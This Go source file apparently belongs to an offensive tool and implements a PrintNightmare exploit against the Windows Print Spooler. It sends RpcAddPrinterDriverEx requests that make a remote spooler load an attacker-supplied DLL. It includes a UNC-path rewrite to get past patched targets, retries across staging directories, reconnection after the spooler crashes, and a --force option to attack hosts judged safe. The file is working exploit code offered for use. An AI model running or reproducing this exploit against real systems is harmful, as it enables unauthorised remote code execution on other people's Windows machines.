package printnightmare

import (
	"context"
	"errors"
	"fmt"
	"regexp"
	"strings"

	"github.com/ineffectivecoder/SpoolGooser/pkg/rprn"
	"github.com/ineffectivecoder/SpoolGooser/pkg/winerror"
)

// maxReconnects bounds rebinds per install attempt. The spooler usually dies
// once the DLL loads, so a second broken pipe means it stayed down.
const maxReconnects = 1

// blindAttempts is how many times the payload container is sent as is
const blindAttempts = 3

// oldDirectories is how many 3\old\<n> staging directories are tried
const oldDirectories = 3

var uncPath = regexp.MustCompile(`^\\\\([\w:.\[\]]+)\\(.*)$`)

// NormalizeDLLPath rewrites \\host\share\file to \??\UNC\host\share\file.
// Targets patched with Point and Print still enabled reject the plain UNC
// form with ERROR_INVALID_PARAMETER. Other paths are returned unchanged.
func NormalizeDLLPath(path string) (string, error) {
	path = strings.TrimSpace(path)
	if path == "" {
		return "", fail(BadConfig, nil, "A DLL path is required.")
	}
	if m := uncPath.FindStringSubmatch(path); m != nil {
		return `\??\UNC\` + m[1] + `\` + m[2], nil
	}
	return path, nil
}

// Run sends the payload container using what Check learned. Install results
// are logged; only a lost connection stops it early.
func (s *Session) Run(ctx context.Context, env Environment) error {
	if env.Label == "" {
		return fail(NoTarget, nil, "Unable to determine the target environment.")
	}
	if env.DriverDirectory == "" {
		return fail(NoTarget, nil, "Unable to determine the remote driver directory.")
	}

	dll, err := NormalizeDLLPath(s.config.DLLPath)
	if err != nil {
		return err
	}
	s.reporter.Debug("Using DLL path: %s", dll)

	_, filename, _ := cutLast(dll, `\`)
	container := s.container(env, configFile, dll)

	for range blindAttempts {
		if err := s.install(ctx, container); err != nil {
			return err
		}
	}

	for i := 1; i <= oldDirectories; i++ {
		container.Info.ConfigFile = fmt.Sprintf(`%s\3\old\%d\%s`, env.DriverDirectory, i, filename)
		if err := s.install(ctx, container); err != nil {
			return err
		}
	}
	return nil
}

// install runs one attempt for Run. Transport faults were already logged by
// addDriver and do not stop the run.
func (s *Session) install(ctx context.Context, container rprn.DriverContainer) error {
	_, err := s.addDriver(ctx, container)

	var fault *rprn.TransportFault
	var failure *Failure
	switch {
	case err == nil, errors.As(err, &fault):
		return nil
	case errors.As(err, &failure):
		return failure
	case errors.Is(err, context.Canceled), errors.Is(err, context.DeadlineExceeded):
		return err
	case errors.Is(err, rprn.ErrMalformedStructure), errors.Is(err, rprn.ErrUnexpectedReply):
		return fail(UnexpectedReply, err, "The RpcAddPrinterDriverEx response could not be parsed.")
	}
	return fail(Unknown, err, "RpcAddPrinterDriverEx failed: %v", err)
}

// addDriver calls RpcAddPrinterDriverEx and returns its Win32 status. A
// broken pipe is answered with one delayed rebind and a retry of the same
// container. Other transport faults are logged and returned.
func (s *Session) addDriver(ctx context.Context, container rprn.DriverContainer) (uint32, error) {
	reconnects := 0
	for attempt := 1; ; attempt++ {
		s.reporter.Debug("RpcAddPrinterDriverEx attempt %d (config file %s)", attempt, container.Info.ConfigFile)

		status, err := s.rprn.AddPrinterDriverEx(ctx, s.server(), container, rprn.AddDriverFlags)
		if err == nil {
			s.reporter.Debug("RpcAddPrinterDriverEx response %s", winerror.Describe(status, winerror.LookupWin32))
			return status, nil
		}

		var fault *rprn.TransportFault
		if !errors.As(err, &fault) {
			return 0, err
		}
		if !rprn.IsPipeBroken(err) {
			s.reporter.Error("Error %s", faultName(fault))
			return 0, err
		}

		if reconnects >= maxReconnects {
			return 0, fail(Disconnected, err, "The named pipe connection was broken.")
		}
		reconnects++

		s.reporter.Status("The named pipe connection was broken, reconnecting after a %d second delay.",
			int(s.config.ReconnectDelay.Seconds()))
		if err := s.sleep(ctx, s.config.ReconnectDelay); err != nil {
			return 0, err
		}
		if err := s.bind(ctx); err != nil {
			return 0, fail(Unreachable, err, "Failed to reconnect to the named pipe.")
		}
	}
}

// Exploit checks the target and runs the exploit when the verdict allows it
func (s *Session) Exploit(ctx context.Context) error {
	report := s.Check(ctx)
	if err := s.autoCheck(report.Outcome); err != nil {
		return err
	}
	return s.Run(ctx, report.Environment)
}

// autoCheck decides whether a verdict lets the exploit run
func (s *Session) autoCheck(o Outcome) error {
	const override = "Enable --force to override check result."

	switch o.Code {
	case CheckVulnerable:
		s.reporter.Good("The target is vulnerable. %s", o.Reason)
		return nil
	case CheckDetected:
		s.reporter.Warn("The service is running, but could not be validated. %s", o.Reason)
		return nil
	case CheckSafe:
		if !s.config.Force {
			return fail(NotVulnerable, nil, "The target is not exploitable. %s %s", o.Reason, override)
		}
		s.reporter.Warn("The target is not exploitable. %s Forcing exploitation.", o.Reason)
		return nil
	}

	if !s.config.Force {
		return fail(Unknown, nil, "Cannot reliably check exploitability. %s %s", o.Reason, override)
	}
	s.reporter.Warn("Cannot reliably check exploitability. %s Forcing exploitation.", o.Reason)
	return nil
}
